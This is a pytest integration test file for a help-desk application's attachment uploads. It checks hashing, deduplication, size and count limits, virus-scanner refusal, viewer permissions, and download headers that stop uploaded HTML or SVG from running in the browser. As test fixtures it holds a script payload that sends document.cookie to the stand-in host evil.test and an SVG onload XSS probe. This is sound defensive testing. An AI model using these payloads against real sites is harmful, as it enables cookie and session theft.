"""Files on comments: uploaded with the comment in one form, kept once by their hash, listed on the
ticket, and served so that nothing a customer sent can run as a page of the desk; checked (count, size,
virus scanner) before anything is kept."""

from __future__ import annotations

import hashlib
import sys
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import AsyncEngine

from supportdesk.config import Settings
from supportdesk.core.storage import LocalFileStore
from tests.factories.tickets import TicketFactory
from tests.fixtures.app import ApiClient
from tests.fixtures.database import make_settings

pytestmark = pytest.mark.integration

MAX_BYTES = 2048
MAX_COUNT = 3
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
PAGE = b"<html><script>document.location='https://evil.test/?'+document.cookie</script></html>"
# A stand-in for clamdscan: exit 1 (infected) for a file holding the test signature, 2 for one holding
# "BROKEN" (the scanner failed), 0 otherwise.
SCANNER = """
import sys
data = open(sys.argv[1], 'rb').read()
sys.exit(1 if b'EICAR-TEST' in data else 2 if b'BROKEN' in data else 0)
"""


@pytest.fixture(scope="session")
def attachment_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    # One folder for the worker: files are kept by their hash, so tests sharing it never collide, and
    # the app's wiring (keyed by its settings) is built once.
    return tmp_path_factory.mktemp("attachments")


@pytest.fixture(scope="session")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> str:
    script = tmp_path_factory.mktemp("scanner") / "scan.py"
    script.write_text(SCANNER)
    return f"{sys.executable} {script}"


@pytest.fixture
def scan_command(request: pytest.FixtureRequest, scanner: str) -> str | None:
    """The virus scanner of the app: none, unless a test asks for ``"scanner"`` through this name."""
    return scanner if getattr(request, "param", None) == "scanner" else None


@pytest.fixture
def settings(engine: AsyncEngine, attachment_folder: Path, scan_command: str | None) -> Settings:
    return make_settings(
        engine.url.render_as_string(hide_password=False),
        attachment_dir=attachment_folder,
        attachment_max_bytes=MAX_BYTES,
        attachment_max_count=MAX_COUNT,
        attachment_scan_command=scan_command,
    )


def stored_copies(folder: Path, digest: str) -> list[str]:
    return [path.name for path in folder.rglob(f"{digest}*")]


async def upload(
    client: ApiClient,
    ticket_id: int,
    *files: tuple[str, bytes, str],
    content: str = "See attached.",
    **form: Any,
) -> Any:
    return await client.post(
        f"/api/v1/tickets/{ticket_id}/attachments",
        data={"content": content, **form},
        files=[("files", file) for file in files],
    )


async def test_a_comment_with_files_keeps_them_and_lists_them_on_the_ticket(
    agent_client: ApiClient, ticket_factory: TicketFactory, attachment_folder: Path
) -> None:
    ticket = await ticket_factory()

    response = await upload(
        agent_client,
        ticket.id,
        ("screenshot.png", PNG, "image/png"),
        ("C:\\Users\\ann\\report.txt", b"numbers", "text/plain"),
    )

    assert response.status_code == 201, response.text
    body = response.json()
    assert body["content"] == "See attached."
    assert [(one["filename"], one["size"]) for one in body["attachments"]] == [
        ("screenshot.png", len(PNG)),
        ("report.txt", 7),
    ]
    assert body["attachments"][0]["sha256"] == hashlib.sha256(PNG).hexdigest()
    listed = (await agent_client.get(f"/api/v1/tickets/{ticket.id}/attachments")).json()
    assert [one["id"] for one in listed] == [one["id"] for one in body["attachments"]]
    store = LocalFileStore(attachment_folder)
    assert store.get(hashlib.sha256(b"numbers").hexdigest()) == b"numbers"
    comments = (await agent_client.get(f"/api/v1/tickets/{ticket.id}/comments")).json()
    assert [comment["id"] for comment in comments] == [body["id"]]


@pytest.mark.parametrize(
    ("filename", "data", "declared", "served", "disposition"),
    [
        pytest.param("photo.png", PNG, "image/png", "image/png", "inline", id="picture-inline"),
        pytest.param(
            "page.html", PAGE, "text/html", "application/octet-stream", "attachment", id="html-download"
        ),
        pytest.param(
            "logo.svg",
            b"<svg onload=alert(1)/>",
            "image/svg+xml",
            "application/octet-stream",
            "attachment",
            id="svg-download",
        ),
        pytest.param(
            "lies.png",
            PAGE,
            "text/html; charset=utf-8",
            "application/octet-stream",
            "attachment",
            id="type-not-name",
        ),
    ],
)
async def test_a_download_is_served_so_that_it_cannot_run_in_the_browser(
    agent_client: ApiClient,
    ticket_factory: TicketFactory,
    filename: str,
    data: bytes,
    declared: str,
    served: str,
    disposition: str,
) -> None:
    ticket = await ticket_factory()
    [attachment] = (await upload(agent_client, ticket.id, (filename, data, declared))).json()["attachments"]

    response = await agent_client.get(attachment["url"])

    assert response.status_code == 200
    assert response.content == data
    assert response.headers["content-length"] == str(len(data))
    assert response.headers["content-type"] == served
    assert response.headers["content-disposition"] == f"{disposition}; filename*=UTF-8''{filename}"
    assert response.headers["x-content-type-options"] == "nosniff"


async def test_the_same_file_attached_twice_is_kept_once(
    agent_client: ApiClient, ticket_factory: TicketFactory, attachment_folder: Path
) -> None:
    ticket = await ticket_factory()
    logo = b"the same logo " + ticket.title.encode()

    first = (await upload(agent_client, ticket.id, ("logo.png", logo, "image/png"))).json()["attachments"][0]
    second = (await upload(agent_client, ticket.id, ("logo-2.png", logo, "image/png"))).json()["attachments"][
        0
    ]

    assert first["id"] != second["id"]
    assert first["sha256"] == second["sha256"]
    digest = first["sha256"]
    assert stored_copies(attachment_folder, digest) == [digest]


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        pytest.param(
            [("big.bin", b"x" * (MAX_BYTES + 1), "application/zip")], "file-too-large", id="too-large"
        ),
        pytest.param(
            [(f"f{n}.txt", b"x", "text/plain") for n in range(MAX_COUNT + 1)], "too-many", id="too-many"
        ),
    ],
)
async def test_files_over_the_limits_are_refused_and_nothing_is_kept(
    agent_client: ApiClient, ticket_factory: TicketFactory, files: list[tuple[str, bytes, str]], reason: str
) -> None:
    ticket = await ticket_factory()

    response = await upload(agent_client, ticket.id, *files)

    assert response.status_code == 422
    assert [error["type"] for error in response.json()["errors"]] == [reason]
    assert (await agent_client.get(f"/api/v1/tickets/{ticket.id}/comments")).json() == []
    assert (await agent_client.get(f"/api/v1/tickets/{ticket.id}/attachments")).json() == []


@pytest.mark.parametrize("scan_command", [pytest.param("scanner", id="scanner")], indirect=True)
@pytest.mark.parametrize(
    ("data", "status", "code"),
    [
        pytest.param(b"X5O!P%@AP EICAR-TEST", 422, "attachment-infected", id="infected"),
        pytest.param(b"BROKEN", 503, "attachment-scan-failed", id="scanner-failed"),
    ],
)
async def test_the_virus_scanner_can_refuse_an_upload(
    agent_client: ApiClient, ticket_factory: TicketFactory, data: bytes, status: int, code: str
) -> None:
    ticket = await ticket_factory()

    refused = await upload(agent_client, ticket.id, ("invoice.pdf", data, "application/pdf"))
    clean = await upload(agent_client, ticket.id, ("invoice.pdf", b"%PDF clean", "application/pdf"))

    assert (refused.status_code, refused.json()["code"]) == (status, code)
    assert clean.status_code == 201
    comments = (await agent_client.get(f"/api/v1/tickets/{ticket.id}/comments")).json()
    assert [comment["id"] for comment in comments] == [clean.json()["id"]]


async def test_a_viewer_may_read_attachments_but_not_add_them(
    agent_client: ApiClient, viewer_client: ApiClient, ticket_factory: TicketFactory
) -> None:
    ticket = await ticket_factory()
    [attachment] = (await upload(agent_client, ticket.id, ("a.txt", b"hello", "text/plain"))).json()[
        "attachments"
    ]

    refused = await upload(viewer_client, ticket.id, ("b.txt", b"hello", "text/plain"))

    assert refused.status_code == 403
    assert (await viewer_client.get(attachment["url"])).content == b"hello"


async def test_an_internal_notes_files_are_marked_by_their_comment(
    agent_client: ApiClient, ticket_factory: TicketFactory
) -> None:
    ticket = await ticket_factory()

    response = await upload(
        agent_client, ticket.id, ("notes.txt", b"internal", "text/plain"), is_public="false"
    )

    assert response.status_code == 201
    assert response.json()["is_public"] is False
    assert response.json()["attachments"][0]["comment_id"] == response.json()["id"]


async def test_the_form_also_takes_a_reply_without_files(
    agent_client: ApiClient, ticket_factory: TicketFactory
) -> None:
    ticket = await ticket_factory()

    response = await upload(agent_client, ticket.id, content="Just words this time.")

    assert response.status_code == 201
    assert (response.json()["content"], response.json()["attachments"]) == ("Just words this time.", [])


async def test_a_form_without_words_is_refused(
    agent_client: ApiClient, ticket_factory: TicketFactory
) -> None:
    ticket = await ticket_factory()

    response = await upload(agent_client, ticket.id, ("a.txt", b"hello", "text/plain"), content="   ")

    assert response.status_code == 422
    assert [error["field"] for error in response.json()["errors"]] == ["content"]
    assert (await agent_client.get(f"/api/v1/tickets/{ticket.id}/attachments")).json() == []
